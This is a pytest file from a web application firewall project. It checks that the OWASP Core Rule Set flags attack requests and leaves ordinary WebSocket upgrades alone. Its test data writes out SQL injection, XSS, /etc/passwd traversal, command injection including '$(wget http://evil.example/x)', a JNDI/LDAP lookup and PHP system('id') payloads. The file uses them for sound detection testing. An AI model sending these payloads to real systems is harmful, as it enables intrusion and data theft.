"""The OWASP Core Rule Set of Debian's package modsecurity-crs: what it says of attacks, and that it lets WebSockets be.

Law: the rules are the machine's own; nothing of them is in this repository.
"""

import time
from pathlib import Path
from typing import Any

import msgspec
import pytest

from holdfast.app.load_crs import compiled, rule_files
from holdfast.model.request import Request
from holdfast.rules.context import EvaluationContext
from holdfast.rules.managed_ruleset import Match, Overrides
from holdfast.rules.meter import begin_rule
from holdfast.rules.seclang.engine import Engine
from holdfast.rules.seclang.owasp import THRESHOLD_RULE_ID, OwaspRuleset
from holdfast.rules.seclang.patterns import PatternCache
from holdfast.rules.seclang.preparation import Step, prepare
from holdfast.rules.seclang.reader import read
from holdfast.rules.seclang.request_variables import RequestVariables
from holdfast.rules.seclang.syntax_tree import Marker
from holdfast.rules.seclang.transaction import Transaction
from tests.integration import wire
from tests.integration.installation import command
from tests.integration.origin import Origin
from tests.integration.run import Run
from tests.integration.test_control_returns import zone_with_record
from tests.integration.test_crash_serving import HOST
from tests.integration.test_crash_writes import UNLIMITED
from tests.integration.waiting import poll
from tests.unit.requests import BROWSER_UPGRADE, a_request

DEBIAN = Path("/usr/share/modsecurity-crs")
MANAGED = "http_request_firewall_managed"
# A rule must cost no more than this on an idle machine, 5 ms; a busy one takes its time. What is not bounded takes seconds.
COST_LIMIT_S = 0.1
# Reading and compiling all of the rules takes seconds, on an idle machine.
RULES_LIMIT_S = 60.0
_KEY = ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")


@pytest.fixture(scope="module", name="files")
def _files() -> dict[str, bytes]:
    assert DEBIAN.is_dir(), "the Core Rule Set is not installed: scripts/need --install test"
    return rule_files(DEBIAN)


@pytest.fixture(scope="module", name="ruleset")
def _ruleset(files: dict[str, bytes]) -> OwaspRuleset:
    return compiled(files)[0]


def asked(
    target: str = "/echo",
    *more: tuple[str, str],
    headers: tuple[tuple[str, str], ...] = BROWSER_UPGRADE,
    method: str = "GET",
) -> Request:
    path, _, query = target.partition("?")
    return msgspec.structs.replace(a_request(headers=(*headers, *more)), path=path, query=query, method=method)


def judged(ruleset: OwaspRuleset, request: Request, *, level: int = 1, threshold: int = 1) -> Match | None:
    """What the last rule says."""
    overrides = {
        "categories": [{"category": f"paranoia-level-{level}", "enabled": True}],
        "rules": [{"id": THRESHOLD_RULE_ID, "score_threshold": threshold}],
    }
    found = list(ruleset.deploy(Overrides.parse(overrides)).matches(EvaluationContext(request), ()))
    return found[0] if found else None


# What is asked, rules that must be among those that matched, and whether that comes to the original's medium threshold.
ATTACKS = [
    (asked("/echo?id=1'%20or%20'1'='1"), {"942100"}, False),
    (asked("/echo?id=1%20union%20select%20password%20from%20users--"), {"942100", "942190", "942270"}, False),
    (asked("/echo?q=%3Cscript%3Ealert(1)%3C/script%3E"), {"941100", "941110", "941160"}, False),
    (asked("/echo?q=%3Cimg%20src=x%20onerror=alert(1)%3E"), {"941100", "941160"}, False),
    (asked("/../../etc/passwd"), {"930100", "930110"}, False),
    (asked("/echo?file=..%2f..%2f..%2fetc%2fpasswd"), {"930100", "930110", "930120", "932160"}, False),
    (asked("/echo?cmd=;cat%20/etc/passwd"), {"930120", "932160"}, False),
    (asked("/echo?x=$(wget%20http://evil.example/x)"), {"932130"}, False),
    (asked("/echo?u=http://10.0.0.1/shell.txt"), {"931100"}, False),
    (asked("/echo?p=%3C?php%20system('id');"), {"933100", "933160"}, False),
    (asked("/echo?p=php://input"), {"933140"}, False),
    (asked("/echo?s=O:8:%22stdClass%22:0:{}"), {"933170"}, False),
    (asked("/echo?j=$%7Bjndi:ldap://evil.example/a%7D"), {"932130"}, False),
    (asked("/echo", ("Cookie", "id=1' or '1'='1")), {"942100"}, False),
    (asked("/.git/config"), {"930130"}, False),
    (asked("/echo?a=b%0d%0aSet-Cookie:%20x=y"), {"921120"}, False),
    (asked("/echo", headers=(*BROWSER_UPGRADE[:4], ("User-Agent", "sqlmap/1.7"), *BROWSER_UPGRADE[5:])), {"913100"}, False),
    (asked("/echo", ("Content-Length", "abc")), {"920160"}, False),
    (asked("/echo?a=%00"), {"920270"}, False),
    (asked("/echo", ("Range", "bytes=5-1")), {"920190"}, False),
    (asked("/echo", method="TRACE"), {"911100"}, False),
    (asked("/echo", headers=(("Host", "10.0.0.1"), *BROWSER_UPGRADE[1:])), {"920350"}, False),
    (
        asked("/echo?a=1'%20union%20select%201--&b=%3Cscript%3Ealert(1)%3C/script%3E&c=../../../etc/passwd"),
        {"930100", "930120", "941110", "942100"},
        True,
    ),
]  # fmt: skip


@pytest.mark.parametrize(("request_", "rules", "is_blocked"), ATTACKS, ids=[f"{min(rules)}" for _, rules, _ in ATTACKS])
def test_an_attack_is_found(ruleset: OwaspRuleset, request_: Request, rules: set[str], is_blocked: bool) -> None:
    found = judged(ruleset, request_)
    assert found is not None
    assert rules <= {rule.ref for rule in found.components}
    assert (judged(ruleset, request_, threshold=40) is not None) is is_blocked
    assert found.fields


def upgrade(*headers: tuple[str, str], target: str = "/ws") -> Request:
    """An upgrade with these fields and no others."""
    return asked(target, headers=(("Host", "example.com"), *headers))


UPGRADE = (("Upgrade", "websocket"), ("Connection", "Upgrade"), _KEY, ("Sec-WebSocket-Version", "13"))
# As these clients were seen to ask.
BENIGN = {
    "chromium": asked(),
    "chromium with a token": asked("/ws?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
    "chromium with cookies": asked("/ws", ("Cookie", "_ga=GA1.1.1234567890.1700000000; theme=dark; cart=%5B1%2C2%5D")),
    "firefox": upgrade(
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "*/*"), ("Accept-Language", "en-US,en;q=0.5"), ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Sec-WebSocket-Version", "13"), ("Origin", "https://example.com"),
        ("Sec-WebSocket-Extensions", "permessage-deflate"), _KEY, ("Connection", "keep-alive, Upgrade"),
        ("Sec-Fetch-Dest", "empty"), ("Sec-Fetch-Mode", "websocket"), ("Sec-Fetch-Site", "same-origin"),
        ("Pragma", "no-cache"), ("Cache-Control", "no-cache"), ("Upgrade", "websocket"),
    ),
    "python websockets": upgrade(
        *UPGRADE, ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"),
        ("User-Agent", "Python/3.11 websockets/15.0"),
    ),
    "npm ws": upgrade(
        ("Sec-WebSocket-Version", "13"), _KEY, ("Connection", "Upgrade"), ("Upgrade", "websocket"),
        ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"),
    ),
    "go gorilla": upgrade(
        ("User-Agent", "Go-http-client/1.1"), ("Connection", "Upgrade"), _KEY, ("Sec-WebSocket-Version", "13"),
        ("Upgrade", "websocket"),
    ),
    "java": upgrade(("Connection", "Upgrade"), _KEY, ("Sec-WebSocket-Version", "13"), ("Upgrade", "websocket"),
                    ("User-Agent", "Java-http-client/21.0.1")),
    "subprotocols": upgrade(*UPGRADE, ("Sec-WebSocket-Protocol", "graphql-transport-ws, graphql-ws"),
                            ("User-Agent", "apollo"), target="/graphql"),
    "socket.io": asked("/socket.io/?EIO=4&transport=websocket&sid=Vd1Jm9VbQ0y4dYxPAAAB"),
    "signalr": asked("/chatHub?id=nZ0pTqS8bZ-7uW0Yv1lZkg&access_token=eyJhbGciOiJub25lIn0.e30."),
    "phoenix": asked("/live/websocket?_csrf_token=PQZ_dDsXKS8aLiUPEiMQ&vsn=2.0.0&_track_static%5B0%5D=https%3A%2F%2Fexample.com%2Fapp.css"),
    "safari": upgrade(
        *UPGRADE, ("Origin", "https://example.com"), ("Accept", "*/*"), ("Accept-Language", "en-GB,en;q=0.9"),
        ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15"),
        ("Cache-Control", "no-cache"), ("Pragma", "no-cache"), ("Sec-WebSocket-Extensions", "permessage-deflate"),
    ),
    "a token as a subprotocol": upgrade(
        *UPGRADE,
        ("Sec-WebSocket-Protocol", "access_token, eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
    ),
    "kubernetes": upgrade(*UPGRADE, (
        "Sec-WebSocket-Protocol", "base64url.bearer.authorization.k8s.io.ZXlKaGJHY2lPaUpTVXpJMU5pSjk, base64.binary.k8s.io")),
    "authorization": upgrade(*UPGRADE, ("Authorization", "Basic dXNlcjpwYXNz"), ("X-Forwarded-For", "198.51.100.7, 203.0.113.9")),
    "cookies of trackers": asked("/ws", (
        "Cookie", "_ga=GA1.2.123456789.1700000000; _fbp=fb.1.1700000000.123; connect.sid=s%3Aabc.def%2BghI; csrftoken=abc")),
    "a port": asked("/ws", headers=(("Host", "example.com:8443"), *UPGRADE)),
    "a page without an origin": upgrade(*UPGRADE, ("Origin", "null")),
    "a developer's page": upgrade(*UPGRADE, ("Origin", "http://localhost:3000")),
    "streams in the query": asked("/stream?streams=btcusdt@trade/ethusdt@depth&tz=Europe%2FBerlin&email=a%40example.com"),
    "mqtt": upgrade(*UPGRADE, ("Sec-WebSocket-Protocol", "mqtt"), target="/mqtt"),
}  # fmt: skip


@pytest.mark.parametrize("request_", BENIGN.values(), ids=BENIGN)
def test_an_honest_upgrade_scores_nothing_at_paranoia_level_1(ruleset: OwaspRuleset, request_: Request) -> None:
    found = judged(ruleset, request_)
    assert [rule.ref for rule in (found.components if found else ())] == []


@pytest.mark.parametrize("request_", BENIGN.values(), ids=BENIGN)
def test_an_honest_upgrade_is_not_refused_at_any_paranoia_level(ruleset: OwaspRuleset, request_: Request) -> None:
    assert judged(ruleset, request_, level=4, threshold=40) is None


def test_what_is_decided_before_a_request_changes_nothing(files: dict[str, bytes]) -> None:
    items, patterns = read(files).items, PatternCache()
    pinned = {b"executing_paranoia_level": b"4", b"paranoia_level": b"4", b"inbound_anomaly_score_threshold": b"5"}
    # Rules that no request matches, and after which everything may be skipped: nothing can be decided before.
    text = "\n".join(
        f'SecRule REQUEST_METHOD "@streq NEVER" "id:{phase},phase:{phase},nolog,pass,skipAfter:NOWHERE"'
        for phase in (1, 2)
    )
    undecided = (*read({"first.conf": text.encode()}).items, *items, Marker("NOWHERE"))
    decided, slow = Engine(items, patterns, pinned=pinned), Engine(undecided, patterns, pinned=pinned)
    assert len(prepare(items, pinned, (), patterns).steps) < len(prepare(undecided, pinned, (), patterns).steps) - 100
    for request in (*BENIGN.values(), *(request for request, _, _ in ATTACKS)):
        said = []
        for engine in (decided, slow):
            begun = engine.begin(RequestVariables(EvaluationContext(request)), {})
            said.append([(one.rule.id, list(one.pairs)) for one in engine.findings(begun)])
        assert said[0] == said[1]


def test_the_screen_misses_no_rule_that_holds(ruleset: OwaspRuleset) -> None:
    engine = ruleset.engine(4)
    for request in (*BENIGN.values(), *(request for request, _, _ in ATTACKS)):
        variables = RequestVariables(EvaluationContext(request))
        holding = {step.rule.id for step in engine.steps if holds(step, engine.begin(variables, {}))}
        assert holding <= {step.rule.id for step in engine.candidates(variables)}


def holds(step: Step, transaction: Transaction) -> bool:
    """Whether a rule holds, as a rule by itself: what one costs is not what the next may."""
    begin_rule()
    return bool(step.evaluate(transaction))


# Beginnings of what rules look for, each of which makes some pattern hope again and again.
HOSTILE = [
    "a", "a=", "'", "\"'`", "(", "<", "<a ", "<style ", "${", "../", "/*", "/*x*/", "--", ";cat ", "select(", "union select ",
    "or 1=1 ", "sleep(1)", "eval(", 'O:1:"', "rO0ABQ", "%25", "%2527", "\\u003c", "&#x3c;", "%00", "\xc0", " ", "\t",
    "x&", "=&", "%26", "a&b=c&",
]  # fmt: skip


@pytest.mark.parametrize("part", HOSTILE)
@pytest.mark.parametrize(
    "place", ["query", "path", "cookie", "header", "many arguments", "many cookies", "many headers"]
)
def test_no_request_makes_a_rule_slow(files: dict[str, bytes], ruleset: OwaspRuleset, place: str, part: str) -> None:
    much = (part * 16_000)[:16_000]
    request = {
        "query": lambda: asked(f"/?a={much}"),
        "path": lambda: asked(f"/{much}".replace("?", "")),
        "cookie": lambda: asked("/", ("Cookie", f"a={much}")),
        "header": lambda: asked("/", ("Referer", much)),
        "many arguments": lambda: asked("/?" + "&".join(f"{n}={part}" for n in range(4_000))[:16_000]),
        "many cookies": lambda: asked("/", ("Cookie", "; ".join(f"{n}={part}" for n in range(4_000))[:16_000])),
        "many headers": lambda: asked("/", *((f"X-{n}", part * 20) for n in range(240))),
    }[place]()
    engine = ruleset.engine(4)
    known = RequestVariables(EvaluationContext(request))
    for step in engine.candidates(known):
        # What costs much does so each time. A collection of garbage, or a cold cache, does not.
        costs = (
            cost_s(engine, step, known if is_first else RequestVariables(EvaluationContext(request)))
            for is_first in (True, False, False)
        )
        assert any(cost < COST_LIMIT_S for cost in costs), step.rule.id


def cost_s(engine: Engine, step: Step, variables: RequestVariables) -> float:
    """What a rule costs, of this thread's time."""
    state = engine.begin(variables, {})
    begun = time.thread_time()
    step.evaluate(state)
    return time.thread_time() - begun


def test_an_edge_executes_what_was_loaded(origin: Origin, tmp_path: Path) -> None:
    with Run(tmp_path / "data", environment=UNLIMITED) as run:
        zone_id, token = zone_with_record(run, origin), run.token
        loaded = command("waf", "load-crs", str(DEBIAN), "--data", str(tmp_path / "data"), api="", token="")
        assert loaded.returncode == 0, loaded.stderr
        assert "OWASP Core Rule Set 3." in loaded.stdout
        rule: dict[str, Any] = {
            "action": "execute",
            "expression": "true",
            "action_parameters": {
                "id": "4814384a9e5d4991b9815dcfc25d2f1f",
                "overrides": {"rules": [{"id": THRESHOLD_RULE_ID, "score_threshold": 5}]},
            },
        }
        path = f"/client/v4/zones/{zone_id}/rulesets/phases/{MANAGED}/entrypoint"
        body = {"rules": [rule]}
        poll(
            lambda: run.ask("PUT", path, token=token, body=body)[0] == 200,
            what="the rules to be known",
            limit_s=RULES_LIMIT_S,
        )

        def status_of(target: str) -> int:
            with wire.connect(run.plain) as client:
                client.send(wire.upgrade(target, host=HOST))
                return client.read_answer().status

        # Control finds what a command wrote within a second, and the edge compiles it.
        poll(
            lambda: status_of("/echo?id=1'%20or%20'1'='1") == 403,
            what="the rules to be in force",
            limit_s=RULES_LIMIT_S,
        )
        assert status_of("/echo") == 101
